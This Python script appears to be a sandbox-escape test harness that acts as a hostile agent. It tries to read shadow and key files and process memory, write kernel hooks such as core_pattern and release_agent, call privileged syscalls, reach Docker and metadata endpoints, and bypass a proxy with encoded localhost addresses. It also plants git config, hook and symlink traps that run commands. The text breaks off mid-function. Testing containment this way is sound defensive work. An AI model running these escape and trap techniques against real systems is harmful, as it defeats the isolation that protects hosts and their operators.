#!/usr/bin/env python3
"""A hostile agent: tries to get out of where it is, and says of each attempt whether it got through.

What to look for, targets.json beside this file says: an attacker may know all of it.  Each attempt is a function that
returns how it got through, or None with the reason it was refused for noted.  One line of JSON each goes to standard output;
test_attack.py judges them, and looks from outside whether what was to happen did not.
"""

from __future__ import annotations

import ctypes
import errno
import glob
import json
import os
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
T: dict[str, Any] = json.loads((HERE / "targets.json").read_text())
MARK = "".join(T["mark"])  # in two pieces there, so that this file and that one do not hold it
libc = ctypes.CDLL(None, use_errno=True)

Attempt = Callable[[], "str | None"]
ATTEMPTS: dict[str, Attempt] = {}
refusals: list[str] = []


def attempt(name: str) -> Callable[[Attempt], Attempt]:
    def add(f: Attempt) -> Attempt:
        assert name not in ATTEMPTS
        ATTEMPTS[name] = f
        return f

    return add


def refused(why: object) -> None:
    refusals.append(str(why)[:160])


def error_name(number: int) -> str:
    return errno.errorcode.get(number, str(number))


# ---- reading


def read_bytes(path: str, most: int = 1 << 20) -> bytes | None:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
    except OSError as e:
        refused(error_name(e.errno or 0))
        return None
    try:
        return os.read(fd, most)
    except OSError as e:
        refused(error_name(e.errno or 0))
        return None
    finally:
        os.close(fd)


def reads(path: str) -> Attempt:
    def f() -> str | None:
        got = read_bytes(path)
        return None if got is None else f"{len(got)} bytes"

    return f


def lists(path: str) -> Attempt:
    def f() -> str | None:
        try:
            return f"{len(os.listdir(path))} names"
        except OSError as e:
            return refused(error_name(e.errno or 0))

    return f


for path in T["files"]:
    attempt(f"read {path}")(reads(path))
for path in T["folders"]:
    attempt(f"list {path}")(lists(path))
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key", "/etc/machine-id", "/proc/kcore", "/proc/kmsg",
             "/dev/mem", "/dev/kmsg", "/dev/port", "/proc/1/mem", "/dev/sda", "/dev/vda", "/dev/loop0", "/dev/fuse", "/dev/kvm",
             "/dev/net/tun", "/dev/vsock", "/var/log/dpkg.log", "/var/lib/dpkg/status"):  # fmt: skip
    attempt(f"read {path}")(reads(path))
for path, names in T["host_listing"].items():

    def host_names(path: str = path, names: list[str] = names) -> str | None:
        """Names that the host has there; an empty place of the same name is none of its business."""
        inside = set(os.listdir(path)) & set(names) - {"tmp", "agent"} if os.path.isdir(path) else set()
        return str(sorted(inside)[:5]) if inside else refused("nothing of the host's")

    attempt(f"list {path}")(host_names)


def walk(top: str, skip: tuple[str, ...], most: int = 60000) -> Iterator[str]:
    count = 0
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in skip]
        for name in files:
            count += 1
            if count > most:
                return
            yield os.path.join(folder, name)


@attempt("find a planted secret anywhere")
def sweep() -> str | None:
    skip = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/dev", str(HERE))
    mark = MARK.encode()
    for path in walk("/", skip):
        try:
            if stat.S_ISREG(os.lstat(path).st_mode) and mark in (read_bytes(path) or b""):
                return path
        except OSError:
            pass
    return refused("no file has it")


@attempt("find a socket of somebody's")
def sockets() -> str | None:
    for path in walk("/", ("/proc", "/sys", "/usr", "/lib", "/lib64")):
        try:
            if not stat.S_ISSOCK(os.lstat(path).st_mode):
                continue
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(path)
                return path
        except OSError:
            pass
    return refused("none to be seen")


@attempt("find a set-uid program that still works")
def set_uid() -> str | None:
    for path in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/chsh", "/usr/bin/newgrp", "/usr/bin/sudo", "/usr/bin/pkexec"):
        if os.path.exists(path) and "NoNewPrivs:\t1" not in Path("/proc/self/status").read_text():
            return path
    return refused("no new privileges")


@attempt("open a descriptor that was left open")
def descriptors() -> str | None:
    for fd in os.listdir("/proc/self/fd"):
        try:
            to = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if int(fd) > 2 and not to.startswith(("/proc/", str(HERE), "anon_inode:")) and int(fd) < 200:
            return to
        if int(fd) <= 2 and to.startswith("/") and to != "/dev/null" and "memfd:" not in to:
            return to
    return refused("0, 1, 2")


# ---- writing


def writes(path: str) -> Attempt:
    def f() -> str | None:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND | os.O_NONBLOCK | os.O_CLOEXEC, 0o600)
        except OSError as e:
            return refused(error_name(e.errno or 0))
        os.close(fd)
        return "opened for writing"

    return f


for path in T["writes"]:
    attempt(f"write {path}")(writes(path))
for path in ("/etc/passwd", "/etc/ld.so.preload", "/etc/cc-pwned", "/usr/bin/cc-pwned", "/usr/lib/cc-pwned", "/bin/sh", "/cc-pwned", "/lib/cc-pwned",
             "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname",
             "/proc/sys/vm/drop_caches", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs",
             "/sys/fs/cgroup/release_agent", "/dev/cc-pwned", str(HERE / "cc-pwned"), str(HERE / "hostile.py")):  # fmt: skip
    attempt(f"write {path}")(writes(path))


@attempt("write anything below /proc/sys or /sys")
def proc_sys() -> str | None:
    ours = re.compile("/proc/sys/(fs/mqueue/|kernel/(auto_msgmni|msg|sem|shm|ns_last_pid|pid_max))")  # of our own namespaces
    found: list[str] = []
    for path in walk("/proc/sys", ()):
        if ours.match(path):
            continue
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            found.append(path)
        except OSError:
            pass
    found += [path for path in walk("/sys", (), 3000) if os.access(path, os.W_OK)]
    return " ".join(found) or refused("nothing opens")


@attempt("write by a hard link or a rename out of the workspace")
def links_out() -> str | None:
    for to in T["writable"]:
        for call in (os.link, os.rename):
            name = f"{os.getcwd()}/moved"
            Path(name).write_text("x")
            try:
                call(name, f"{to}/cc-pwned-link")
                return f"{call.__name__} to {to}"
            except OSError as e:
                refused(error_name(e.errno or 0))
    return None


# ---- who we are


def status(pid: str = "self") -> dict[str, str]:
    return dict(line.split(":\t", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)


@attempt("have a capability")
def capabilities() -> str | None:
    mine = {name: status()[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
    return str(mine) if any(int(value, 16) for value in mine.values()) else refused("all five sets are empty")


@attempt("be root")
def root() -> str | None:
    ids = status()["Uid"].split() + status()["Gid"].split()
    return str(ids) if "0" in ids else refused(ids)


@attempt("map another account into our namespace")
def map_accounts() -> str | None:
    for path, text in (("uid_map", "0 0 1"), ("gid_map", "0 0 1"), ("uid_map", "0 0 4294967295"), ("setgroups", "allow")):
        for pid in ("self", "1"):
            try:
                Path(f"/proc/{pid}/{path}").write_text(text)
                return f"/proc/{pid}/{path}: {text}"
            except OSError as e:
                refused(error_name(e.errno or 0))
    return None


@attempt("find a process with more rights than ours to write into")
def stronger() -> str | None:
    """Process 1 is bubblewrap, of our account: its memory is ours to write, so it must be as weak as we are."""
    for pid in pids():
        if not os.path.exists(f"/proc/{pid}/status"):
            continue
        other = status(pid)
        if any(int(other[name], 16) for name in ("CapPrm", "CapEff", "CapBnd")) or other["Seccomp"] != "2" or other["NoNewPrivs"] != "1":
            return f"{pid} {other['Name']}: {other['CapPrm']} {other['Seccomp']} {other['NoNewPrivs']}"
    return refused("all are as weak")


@attempt("find the worker's secrets in the memory of process 1")
def memory_of_1() -> str | None:
    """It has read mountinfo, so paths are in it."""
    for line in (read_bytes("/proc/1/maps") or b"").decode().splitlines():
        if "rw" not in line.split()[1]:
            continue
        low, high = (int(word, 16) for word in line.split()[0].split("-"))
        try:
            with open("/proc/1/mem", "rb", buffering=0) as memory:
                memory.seek(low)
                found = MARK.encode() in memory.read(min(high - low, 8 << 20))
        except OSError as e:
            refused(error_name(e.errno or 0))
            continue
        if found:
            return line
    return refused("nothing of the worker's")


@attempt("keep a supplementary group")
def groups() -> str | None:
    return str(os.getgroups()) if set(os.getgroups()) & {0, 1, 2, 4, 27, 42} else refused(os.getgroups())


@attempt("gain privileges by exec")
def new_privileges() -> str | None:
    return refused("NoNewPrivs") if status()["NoNewPrivs"] == "1" else "NoNewPrivs is 0"


@attempt("make any system call")
def seccomp() -> str | None:
    return refused("Seccomp 2") if status()["Seccomp"] == "2" else f"Seccomp {status()['Seccomp']}"


@attempt("become somebody else")
def set_ids() -> str | None:
    for call in ("setuid", "setgid"):
        if getattr(libc, call)(0) == 0 and os.getuid() == 0:
            return call
    return refused(error_name(ctypes.get_errno()))


# ---- other processes


def pids() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdigit()]


@attempt("see a process of somebody's")
def others() -> str | None:
    for pid in pids():
        line = (read_bytes(f"/proc/{pid}/cmdline") or b"").decode(errors="replace")
        if T["victim_name"] in line or "codecourier" in line:
            return line
    return refused(f"{len(pids())} processes, all ours")


@attempt("read the environment of any process, 1 included")
def environments() -> str | None:
    for pid in pids():
        for name in ("environ", "cmdline"):
            got = (read_bytes(f"/proc/{pid}/{name}") or b"").decode(errors="replace")
            for word in (MARK, *T["host_paths"]):
                if word in got:
                    return f"/proc/{pid}/{name} has {word[:24]}"
    return refused("nothing of the worker's in them")


@attempt("have the worker's environment or paths")
def environment() -> str | None:
    for name, value in os.environ.items():
        for word in (MARK, *T["host_paths"]):
            if word in value:
                return f"{name}={value[:80]}"
    return os.getcwd() if any(word in os.getcwd() for word in T["host_paths"]) else refused("neutral")


@attempt("get out by /proc/1/root or /proc/1/cwd")
def proc_root() -> str | None:
    for pid in ("1", str(os.getppid()), "self"):
        for link in ("root", "cwd"):
            for path in T["files"]:
                if read_bytes(f"/proc/{pid}/{link}{path}") is not None:
                    return f"/proc/{pid}/{link}{path}"
    return None


@attempt("kill or trace the victim, whatever its number is called here")
def victim() -> str | None:
    for pid in (T["victim"], T["worker_parent"]):
        try:
            os.kill(pid, 0)
            if T["victim_name"] in (read_bytes(f"/proc/{pid}/cmdline") or b"").decode(errors="replace"):
                os.kill(pid, 9)
                return f"killed {pid}"
        except OSError as e:
            refused(error_name(e.errno or 0))
    return None


@attempt("kill everything that can be killed")
def kill_all() -> str | None:
    """Signal 0, or we would be gone ourselves; test_attack.py looks whether the victim lives."""
    for pid in range(2, 400):
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        line = (read_bytes(f"/proc/{pid}/cmdline") or b"").decode(errors="replace")
        if str(HERE) not in line and "hostile" not in line:
            return f"{pid}: {line[:80]}"
    return refused("only our own answer")


# ---- the kernel's doors

NR = {  # x86_64, aarch64
    "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "chroot": (161, 51), "unshare": (272, 97), "setns": (308, 268),
    "ptrace": (101, 117), "keyctl": (250, 219), "add_key": (248, 217), "request_key": (249, 218), "bpf": (321, 280), "kexec_load": (246, 104),
    "kexec_file_load": (320, 294), "userfaultfd": (323, 282), "perf_event_open": (298, 241), "io_uring_setup": (425, 425),
    "open_by_handle_at": (304, 265), "init_module": (175, 105), "finit_module": (313, 273), "delete_module": (176, 106), "reboot": (169, 142),
    "swapon": (167, 224), "swapoff": (168, 225), "acct": (163, 89), "quotactl": (179, 60), "settimeofday": (164, 170), "clock_settime": (227, 112),
    "fsopen": (430, 430), "open_tree": (428, 428), "move_mount": (429, 429), "fspick": (433, 433), "mount_setattr": (442, 442),
    "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "kcmp": (312, 272), "syslog": (103, 116), "fanotify_init": (300, 262),
    "pidfd_getfd": (438, 438), "vhangup": (153, 58), "sethostname": (170, 161), "setdomainname": (171, 162), "nfsservctl": (180, 42),
    "lookup_dcookie": (212, 18), "mbind": (237, 235), "move_pages": (279, 239), "migrate_pages": (256, 238), "clock_adjtime": (305, 266), "clone3": (435, 435),
}  # fmt: skip
ARCH = 1 if os.uname().machine == "aarch64" else 0
CLOSED = {errno.EPERM, errno.ENOSYS, errno.EACCES}


def call(name: str, *arguments: object) -> str | None:
    """Through, unless the door is shut: whatever else is answered (EFAULT, EINVAL …), the kernel has looked at the question."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    come, go = os.pipe()
    if not (pid := os.fork()):  # what it changes shall not be ours
        answer = libc.syscall(ctypes.c_long(NR[name][ARCH]), *words)
        os.write(go, struct.pack("ii", answer, ctypes.get_errno()))
        os._exit(0)
    os.close(go)
    got = os.read(come, 8)
    os.close(come)
    os.waitpid(pid, 0)
    answer, number = struct.unpack("ii", got) if got else (-1, errno.EPERM)  # killed for it
    if answer < 0 and number in CLOSED:
        return refused(error_name(number))
    return f"{name} gave {answer} {error_name(number) if answer < 0 else ''}".strip()


NEWUSER, NEWNS, NEWPID, NEWNET, NEWCGROUP, NEWUTS, NEWIPC, NEWTIME = (
    0x10000000, 0x20000, 0x20000000, 0x40000000, 0x02000000, 0x04000000, 0x08000000, 0x80)  # fmt: skip
REMOUNT, BIND, MOVE, PRIVATE = 32, 4096, 8192, 1 << 18
ROOM = ctypes.create_string_buffer(4096)
NEVER = ctypes.create_string_buffer(struct.pack("qq", -1, 1 << 40))  # no time that any clock could be set to: this runs on real machines

SYSCALLS: dict[str, list[tuple[object, ...]]] = {
    "mount": [(b"tmpfs", b"/tmp", b"tmpfs", 0, 0), (b"none", b"/", 0, REMOUNT | BIND, 0), (b"none", b"/usr", 0, REMOUNT | BIND, 0),
              (b"/", b"/tmp", 0, BIND, 0), (b"/", b"/tmp", 0, BIND | 16384, 0), (b"/tmp", b"/usr", 0, MOVE, 0), (b"none", b"/", 0, PRIVATE | 16384, 0),
              (b"proc", b"/tmp", b"proc", 0, 0), (b"none", b"/tmp", b"cgroup2", 0, 0)],
    "umount2": [(b"/", 2), (b"/proc", 2), (b"/tmp", 2), (b"/dev", 2), (os.getcwd().encode(), 2), (b"/usr", 2)],
    "pivot_root": [(b"/tmp", b"/tmp")],
    "chroot": [(b"/tmp",), (b"/proc/1/root",)],
    "unshare": [(flags,) for flags in (NEWUSER, NEWUSER | NEWNS, NEWNS, NEWPID, NEWNET, NEWCGROUP, NEWUTS, NEWIPC)],
    "ptrace": [(0x4206, os.getppid(), 0, 0), (0, 0, 0, 0)],
    "keyctl": [(0, -3, 1), (1, b"x"), (11, -3, ROOM, 100)],
    "add_key": [(b"user", b"cc", b"x", 1, -3)],
    "request_key": [(b"user", b"cc", 0, -3)],
    "bpf": [(0, ROOM, 72), (5, ROOM, 72)],
    "kexec_load": [(0, 0, 0, 0)], "kexec_file_load": [(-1, -1, 0, 0, 0)],
    "userfaultfd": [(0,), (1,)],
    "perf_event_open": [(ROOM, 0, -1, -1, 0)],
    "io_uring_setup": [(4, ROOM)],
    "open_by_handle_at": [(-100, ROOM, 0)],
    "init_module": [(ROOM, 10, b"")], "finit_module": [(0, b"", 0)], "delete_module": [(b"x", 0)],
    "reboot": [(0, 0, 0, 0)], "swapon": [(b"/tmp/x", 0)], "swapoff": [(b"/tmp/x",)], "acct": [(b"/tmp/x",)], "quotactl": [(0, 0, 0, 0)],
    "settimeofday": [(NEVER, 0)], "clock_settime": [(0, NEVER)],
    "fsopen": [(b"tmpfs", 0)], "open_tree": [(-100, b"/", 1)], "move_mount": [(-100, b"/tmp", -100, b"/", 0)], "fspick": [(-100, b"/", 0)],
    "mount_setattr": [(-100, b"/", 0, ROOM, 32)],
    "process_vm_readv": [(os.getppid(), ROOM, 1, ROOM, 1, 0)], "process_vm_writev": [(os.getppid(), ROOM, 1, ROOM, 1, 0)],
    "kcmp": [(os.getpid(), os.getppid(), 0, 0, 0)], "syslog": [(3, ROOM, 100)], "fanotify_init": [(0, 0)], "pidfd_getfd": [(0, 0, 0)],
    "vhangup": [()], "sethostname": [(ROOM, 1000)], "setdomainname": [(ROOM, 1000)], "nfsservctl": [(0, 0, 0)], "lookup_dcookie": [(0, ROOM, 10)],
}  # fmt: skip

LAST = ("mount", "umount2", "pivot_root", "move_mount")  # whoever may, has nothing left to stand on afterwards
for name, ways in SYSCALLS.items():
    for i, arguments in enumerate(ways):
        attempt(f"system call {name}" + (f" ({i + 1})" if len(ways) > 1 else ""))(lambda name=name, arguments=arguments: call(name, *arguments))  # type: ignore[misc]


@attempt("enter a namespace of process 1 or our parent")
def namespaces() -> str | None:
    for pid in ("1", str(os.getppid())):
        for kind in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError as e:
                refused(error_name(e.errno or 0))
                continue
            if libc.syscall(ctypes.c_long(NR["setns"][ARCH]), fd, 0) == 0:
                return f"/proc/{pid}/ns/{kind}"
            refused(error_name(ctypes.get_errno()))
            os.close(fd)
    return None


@attempt("make a device node")
def device() -> str | None:
    for folder in (os.getcwd(), "/tmp", "/dev"):
        try:
            os.mknod(f"{folder}/node", 0o600 | stat.S_IFCHR, os.makedev(1, 1))
            return folder
        except OSError as e:
            refused(error_name(e.errno or 0))
    return None


@attempt("find a device that is not harmless")
def devices() -> str | None:
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
    for folder, _, files in os.walk("/dev"):
        for name in files:
            path = os.path.join(folder, name)
            mode = os.lstat(path).st_mode
            if (stat.S_ISCHR(mode) or stat.S_ISBLK(mode)) and name not in harmless and not folder.startswith("/dev/pts"):
                return path
    return refused("null, zero, full, random, urandom, tty, ptmx")


@attempt("have a terminal to type into")
def terminal() -> str | None:
    try:
        fd = os.open("/dev/tty", os.O_RDWR)
    except OSError as e:
        return refused(error_name(e.errno or 0))
    os.close(fd)
    return "/dev/tty opens"


@attempt("run a program from a mount that should not hold any")
def dev_exec() -> str | None:
    try:
        Path("/dev/x").write_text("#!/bin/sh\n")
        return "/dev is writable"
    except OSError as e:
        return refused(error_name(e.errno or 0))


# ---- what tells where the data is


def tells(text: str) -> str | None:
    for word in (MARK, *T["host_paths"]):
        if word in text:
            return word
    return None


@attempt("learn the host's paths from mount tables, maps, links")
def mount_table() -> str | None:
    """The source of a bind mount is in mountinfo's fourth field, which the kernel fills; all the others are ours to choose."""
    for path in ("/proc/self/mounts", "/proc/self/mountstats", "/proc/self/maps", "/proc/self/cgroup", "/proc/swaps"):
        if found := tells((read_bytes(path) or b"").decode(errors="replace")):
            return f"{path} has {found}"
    for line in (read_bytes("/proc/self/mountinfo") or b"").decode(errors="replace").splitlines():
        fields = line.split()
        del fields[3]
        if found := tells(" ".join(fields)):
            return f"mountinfo has {found}"
    for link in ("cwd", "exe", "root"):
        if found := tells(os.readlink(f"/proc/self/{link}")):
            return f"{link} is {found}"
    return refused("neutral")


@attempt("learn the host's paths from error texts and git")
def error_texts() -> str | None:
    for words in (["sh", "-c", "cat nothing"], ["git", "status"], ["git", "remote", "-v"], ["git", "config", "-l", "--show-origin"],
                  ["git", "rev-parse", "--absolute-git-dir"], ["cat", ".git"], ["df"], ["sh", "-c", "pwd -P"], ["ls", "-la", "/", ".", ".."]):  # fmt: skip
        done = subprocess.run(words, capture_output=True, text=True, errors="replace", stdin=subprocess.DEVNULL)
        if found := tells(done.stdout + done.stderr):
            return f"{' '.join(words)}: {found}"
    return refused("neutral")


@attempt("learn the machine's name and its accounts")
def accounts() -> str | None:
    if len(T["hostname"]) > 3 and os.uname().nodename == T["hostname"]:
        return os.uname().nodename
    names = [line.split(":")[0] for line in (read_bytes("/etc/passwd") or b"").decode().splitlines()]
    return str(names) if len(names) > 4 else refused(names)


# ---- the network


def connects(family: int, kind: int, place: object, say: bytes = b"GET / HTTP/1.0\r\n\r\n") -> Attempt:
    def f() -> str | None:
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(1)
                s.connect(place)  # type: ignore[arg-type]
                s.send(say)
                if kind == socket.SOCK_DGRAM:
                    s.recv(10)
                return f"connected to {place!r}"
        except OSError as e:
            return refused(error_name(e.errno or 0) if e.errno else e)

    return f


for host in ["127.0.0.1", "127.0.0.2", "0.0.0.0", *T["own"], "::1", "::ffff:127.0.0.1"]:
    attempt(f"connect to {host} of the host")(
        connects(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM, (host, T["port"])))  # fmt: skip
for host, port in (("169.254.169.254", 80), ("10.0.0.1", 22), ("192.168.0.1", 80), ("172.17.0.1", 80), ("8.8.8.8", 53), ("1.1.1.1", 443), *T["nameservers"]):
    attempt(f"connect to {host}:{port}")(connects(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM, (host, port)))
    attempt(f"send a datagram to {host}:{port}")(connects(
        socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM, (host, port), b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3org\0\0\1\0\1"))  # fmt: skip
for name in T["abstract"]:
    attempt(f"connect to the abstract socket @{name}")(connects(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + name))
for path in T["sockets"] + ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                            "/run/systemd/private", "/run/user/0/bus", "/tmp/.X11-unix/X0", "/run/podman/podman.sock", "/run/nscd/socket"]:  # fmt: skip
    attempt(f"connect to {path}")(connects(socket.AF_UNIX, socket.SOCK_STREAM, path))

FAMILIES = {"AF_VSOCK": 40, "AF_PACKET": 17, "AF_ALG": 38, "AF_BLUETOOTH": 31, "AF_CAN": 29, "AF_TIPC": 30, "AF_XDP": 44, "AF_KEY": 15, "AF_RDS": 21,
            "AF_QIPCRTR": 42, "AF_SMC": 43, "AF_X25": 9, "AF_APPLETALK": 5, "AF_LLC": 26, "AF_NFC": 39, "AF_KCM": 41, "AF_PPPOX": 24}  # fmt: skip
for name, family in FAMILIES.items():

    def open_family(family: int = family) -> str | None:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind).close()
                return f"kind {kind}"
            except OSError as e:
                refused(error_name(e.errno or 0))
        return None

    attempt(f"open a socket of {name}")(open_family)
for family in (socket.AF_INET, socket.AF_INET6):
    for protocol in (1, 58, 255, 6, 132):

        def raw(family: int = family, protocol: int = protocol) -> str | None:
            try:
                socket.socket(family, socket.SOCK_RAW, protocol).close()
                return "opened"
            except OSError as e:
                return refused(error_name(e.errno or 0))

        attempt(f"open a raw socket ({family.name}, {protocol})")(raw)


@attempt("see an interface of the host's")
def interfaces() -> str | None:
    names = {name for _, name in socket.if_nameindex()} if netlink_works() else set()
    return str(names) if names - {"lo"} else refused(names or "no netlink")


def netlink_works() -> bool:
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
        return True
    except OSError:
        return False


for protocol, name in {2: "usersock", 4: "sock_diag", 6: "xfrm", 9: "audit", 12: "netfilter", 15: "kobject_uevent", 16: "generic", 18: "scsi", 21: "crypto"}.items():

    def open_netlink(protocol: int = protocol) -> str | None:
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
            return "opened"
        except OSError as e:
            return refused(error_name(e.errno or 0))

    attempt(f"open netlink {name}")(open_netlink)


@attempt("hear what others say on the network (bind a low port, multicast)")
def low_port() -> str | None:
    try:
        with socket.socket() as s:
            s.bind(("127.0.0.1", 80))
            return "bound"
    except OSError as e:
        return refused(error_name(e.errno or 0))


def way_out() -> tuple[str, int, str] | None:
    url = next((os.environ[name] for name in ("https_proxy", "HTTPS_PROXY", "http_proxy", "HTTP_PROXY", "all_proxy") if os.environ.get(name)), None)
    found = re.match(r"http://(?:([^@]*)@)?([^:/]+):(\d+)", url or "")
    return (found[2], int(found[3]), found[1] or "") if found else None


def ask_proxy(head: str) -> str:
    out = way_out()
    if not out:
        return "no proxy"
    with socket.create_connection(out[:2], timeout=8) as s:
        s.sendall(head.encode("latin-1"))
        return s.recv(300).decode("latin-1").split("\r\n")[0]


def by_proxy(host: str, port: int) -> Attempt:
    def f() -> str | None:
        for head in (f"CONNECT {host}:{port} HTTP/1.1\r\nHost: x\r\n\r\n", f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n"):
            try:
                answer = ask_proxy(head)
            except OSError as e:
                return refused(e)
            if answer.startswith(("HTTP/1.1 2", "HTTP/1.0 2", "HTTP/1.1 3")):
                return answer
            refused(answer or "closed")
        return None

    return f


for host in [
    "127.0.0.1", "127.1", "127.0.1", "127.0.0.1.", "2130706433", "0x7f000001", "0x7f.1", "017700000001", "0177.0.0.1", "0", "0.0.0.0", "0x0",
    "localhost", "LOCALHOST", "localhost.", "x.localhost", "ip6-localhost", "[::1]", "[0:0:0:0:0:0:0:1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1%25lo]", "127.0.0.1%00.example.org", "127.0.0.1#.example.org", "user@127.0.0.1",
    "example.org@127.0.0.1", "127.0.0.1\t", "127\u3002".encode().decode("latin-1") + "0.0.1", "127.1.1.1", T["hostname"],
    *[f"[{a}]" if ":" in a else a for a in T["own"]],
]:  # fmt: skip
    attempt(f"by the proxy to {host!r}")(by_proxy(host, T["port"]))
for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "metadata.google.internal", "[fd00:ec2::254]", "10.0.0.1", "192.168.1.1",
             "172.16.0.1", "100.64.0.1", "[fd00::1]", "224.0.0.1", "255.255.255.255", "[ff02::1]"):  # fmt: skip
    attempt(f"by the proxy to {host}:80")(by_proxy(host, 80))
if T["listed"]:
    attempt("by the proxy to a public host that is not listed")(by_proxy("example.org", 443))
    attempt("by the proxy to a listed host's other port")(by_proxy("api.anthropic.com", 22))


# ---- other languages


def line_of(words: list[str]) -> Attempt:
    """A helper that prints what it got, or nothing."""

    def f() -> str | None:
        try:
            done = subprocess.run(words, capture_output=True, text=True, errors="replace", timeout=20, stdin=subprocess.DEVNULL)
        except OSError as e:
            return refused(e)
        if done.returncode == 100:
            return done.stdout.strip() or "said so by its exit code"
        return refused((done.stdout + done.stderr).strip().splitlines()[-1] if (done.stdout + done.stderr).strip() else f"exit {done.returncode}")

    return f


for way in ("ioctl-tiocsti", "ioctl-tiocsti-high", "ioctl-tioclinux", "clone-newuser", "clone3-newuser", "int80-mount", "int80-unshare", "x32-unshare",
            "x32-mount", "ptrace-sibling", "prctl-no-seccomp", "memfd-exec-suid", "userns-by-fork"):  # fmt: skip
    if (HERE / "hostile").exists():
        attempt(f"C: {way}")(line_of([str(HERE / "hostile"), way]))
for way in ("secrets", "tcp", "devtcp", "parent", "su", "mount"):
    attempt(f"sh: {way}")(line_of(["bash", str(HERE / "hostile.sh"), way]))
if T["node"]:
    for way in ("secrets", "connect", "proc", "env", "unix"):
        attempt(f"node: {way}")(line_of([T["node"], str(HERE / "hostile.mjs"), way]))


# ---- traps for the worker, who comes to look when we are done


def plant_traps(unborn: bool = True) -> None:
    """No attempt to judge here: test_attack.py looks afterwards whether anything happened outside."""
    work = Path.cwd()
    out = T["writable"][0]

    def evil(what: str) -> str:
        """A command line for a shell, which works wherever it is run."""
        return f"echo pwned > {out}/cc-pwned-{what} #"

    script = f"#!/bin/sh\necho pwned > {out}/cc-pwned-$(basename $0)\n"
    for name, to in {"artifacts": "/etc", "up": "../../../..", "home": "/", "data": T["host_paths"][0], "loop": "loop", "dev": "/dev/zero"}.items():
        try:
            os.symlink(to, work / name)
        except OSError:
            pass
    nested = work / "nested"
    subprocess.run(["git", "init", "-q", nested], stdin=subprocess.DEVNULL)
    subprocess.run(["git", "-C", nested, "-c", "user.name=A", "-c", "user.email=a@example.org", "commit", "-q", "--allow-empty", "-m", "x"], stdin=subprocess.DEVNULL,
                   env=os.environ | {f"GIT_{who}_DATE": "2026-01-01T00:00:00Z" for who in ("AUTHOR", "COMMITTER")})  # fmt: skip
    if unborn:  # a nested repository without a commit, which git itself refuses to add
        subprocess.run(["git", "init", "-q", work / "unborn"], stdin=subprocess.DEVNULL)
    configuration = "\n".join(f"[{section}]\n\t{name} = \"{evil(name)}\"" for section, name in (
        ("core", "fsmonitor"), ("core", "sshCommand"), ("core", "pager"), ("core", "editor"), ('filter "evil"', "clean"), ('filter "evil"', "smudge"),
        ('filter "evil"', "process"), ('diff "evil"', "textconv"), ('diff "evil"', "command"), ('merge "evil"', "driver"), ("credential", "helper"),
    ))  # fmt: skip
    configuration += f'\n[alias]\n\tadd = "!{evil("alias")}"\n\tcommit = "!{evil("alias")}"\n[core]\n\thooksPath = {work}\n[include]\n\tpath = {work}/included\n'
    for place in (nested / ".git" / "config", work / "included"):
        with place.open("a") as config:
            config.write(configuration)
    (nested / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    for name in ("pre-commit", "post-commit", "pre-push", "post-checkout", "reference-transaction", "post-index-change"):
        for folder in (nested / ".git" / "hooks", work):
            folder.mkdir(exist_ok=True)
            (folder / name).write_text(script)
            (folder / name).chmod(0o755)
    (work / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    (nested / "file").write_text("x")
    (work / "-rf").write_text("x")
    elsewhere = work / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / ".git").write_text(f"gitdir: {T['host_paths'][0]}/repos\n")
    with socket.socket(socket.AF_UNIX) as s:
        try:
            s.bind(str(work / "socket"))
        except OSError:
            pass
    try:
        os.mkfifo(work / "fifo")
    except OSError:
        pass
    home = Path(os.environ.get("HOME", "/nonexistent"))
    try:
        (home / ".gitconfig").write_text(configuration)
